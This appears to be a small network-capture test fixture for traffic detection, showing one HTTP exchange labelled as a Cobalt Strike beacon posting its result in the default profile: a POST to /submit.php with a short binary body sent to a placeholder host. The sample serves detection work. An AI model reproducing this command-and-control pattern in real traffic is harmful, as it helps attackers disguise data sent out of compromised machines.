# Cobalt Strike, result posted in the stock profile.
proto tcp
client 10.0.0.1:40000
server 10.0.0.2:80

>>>
POST /submit.php?id=1842762 HTTP/1.1\r\n
Host: shop.example\r\n
Content-Type: application/octet-stream\r\n
User-Agent: Mozilla/5.0\r\n
Content-Length: 6\r\n
\r\n
\x00\x00\x00 \x8c\x11

<<<
HTTP/1.1 200 OK\r\n
Content-Length: 2\r\n
\r\n
ok
